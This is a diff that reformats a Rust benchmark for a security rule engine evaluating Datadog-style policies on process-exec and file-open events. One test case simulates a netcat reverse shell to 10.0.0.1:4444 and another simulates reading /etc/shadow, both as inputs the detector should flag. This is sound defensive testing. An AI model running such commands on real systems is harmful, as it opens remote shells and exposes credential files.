@@ -18,9 +18,13 @@ use rampart_policy::{load_paths, load_sources, HostInfo, LoadOptions, PolicySour
 use rampart_secl::{MemoryStore, RuleSet};
 
 fn ruleset() -> (RuleSet, &'static str) {
-    let opts = LoadOptions { host: HostInfo::default(), agent_version: None, typecheck_filtered: false };
-    let corpus =
-        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/reference/datadog-policies/default.policy");
+    let opts = LoadOptions {
+        host: HostInfo::default(),
+        agent_version: None,
+        typecheck_filtered: false,
+    };
+    let corpus = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("../../../shared/reference/datadog-policies/default.policy");
     if corpus.exists() {
         let loaded = load_paths(&[corpus], &opts).unwrap();
         return (loaded.ruleset, "datadog default policy");
@@ -34,7 +38,11 @@ fn ruleset() -> (RuleSet, &'static str) {
             "  - id: open_{i}\n    expression: open.file.path in [~\"/etc/app{i}/**\"] && open.flags & (O_WRONLY|O_RDWR) > 0 && process.file.name not in [\"dpkg\", \"rpm\"]\n"
         ));
     }
-    let src = PolicySource { name: "generated".into(), file: "generated.policy".into(), text };
+    let src = PolicySource {
+        name: "generated".into(),
+        file: "generated.policy".into(),
+        text,
+    };
     (load_sources(&[src], &opts).ruleset, "150 generated rules")
 }
 
@@ -71,21 +79,32 @@ fn lineage(leaf: &str, argv: &[&str]) -> Arc<ProcessNode> {
 
 fn exec(leaf: &str, argv: &[&str]) -> Event {
     let node = lineage(leaf, argv);
-    let mut ev =
-        Event::new(1_700_000_000_000_000_000, ProcessContext::new(node.clone()), EventData::Exec(node.process.clone()));
+    let mut ev = Event::new(
+        1_700_000_000_000_000_000,
+        ProcessContext::new(node.clone()),
+        EventData::Exec(node.process.clone()),
+    );
     ev.event.origin = "ebpf".into();
     ev
 }
 
 fn open(path: &str, flags: u32) -> Event {
     let node = lineage("/usr/bin/python3", &["python3", "app.py"]);
-    let data = EventData::Open(OpenEvent { file: FileTarget::from_path(path), flags, retval: 3, syscall: None });
+    let data = EventData::Open(OpenEvent {
+        file: FileTarget::from_path(path),
+        flags,
+        retval: 3,
+        syscall: None,
+    });
     Event::new(1_700_000_000_000_000_000, ProcessContext::new(node), data)
 }
 
 /// CPU time consumed by the calling thread.
 fn thread_cpu() -> Duration {
-    let mut ts = libc::timespec { tv_sec: 0, tv_nsec: 0 };
+    let mut ts = libc::timespec {
+        tv_sec: 0,
+        tv_nsec: 0,
+    };
     // SAFETY: `ts` is a valid, writable timespec; CLOCK_THREAD_CPUTIME_ID is always available on Linux.
     unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut ts) };
     Duration::new(ts.tv_sec as u64, ts.tv_nsec as u32)
@@ -95,9 +114,17 @@ fn bench(c: &mut Criterion) {
     let (rs, what) = ruleset();
     let store = MemoryStore::new();
     let cases = [
-        ("exec_no_match", exec("/usr/bin/ls", &["ls", "-la", "/srv"]), false),
+        (
+            "exec_no_match",
+            exec("/usr/bin/ls", &["ls", "-la", "/srv"]),
+            false,
+        ),
         ("open_no_match", open("/srv/app/data.db", 0o2), false),
-        ("exec_match", exec("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]), true),
+        (
+            "exec_match",
+            exec("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
+            true,
+        ),
         ("open_match", open("/etc/shadow", 0o1), true),
     ];
     eprintln!(
@@ -106,20 +133,30 @@ fn bench(c: &mut Criterion) {
         rs.rules_for(rampart_model::EventType::Exec).len(),
         rs.rules_for(rampart_model::EventType::Open).len()
     );
-    for t in [rampart_model::EventType::Exec, rampart_model::EventType::Open] {
+    for t in [
+        rampart_model::EventType::Exec,
+        rampart_model::EventType::Open,
+    ] {
         let (always, fields) = rs.index_stats(t);
-        eprintln!("{t}: {always} rules evaluated for every event, the others indexed on {fields:?}");
+        eprintln!(
+            "{t}: {always} rules evaluated for every event, the others indexed on {fields:?}"
+        );
     }
     let mut g = c.benchmark_group("evaluate");
     g.throughput(Throughput::Elements(1));
     for (name, ev, want_match) in &cases {
         let found = rs.evaluate(ev, &store);
         let n = found.len();
-        eprintln!("{name}: {n} matches {:?}", found.iter().map(|m| m.rule.id.as_str()).collect::<Vec<_>>());
+        eprintln!(
+            "{name}: {n} matches {:?}",
+            found.iter().map(|m| m.rule.id.as_str()).collect::<Vec<_>>()
+        );
         if !*want_match {
             assert_eq!(n, 0, "{name} must not match");
         }
-        g.bench_function(*name, |b| b.iter(|| black_box(rs.evaluate(black_box(ev), &store))));
+        g.bench_function(*name, |b| {
+            b.iter(|| black_box(rs.evaluate(black_box(ev), &store)))
+        });
     }
     g.finish();
     let mut g = c.benchmark_group("evaluate_cpu");
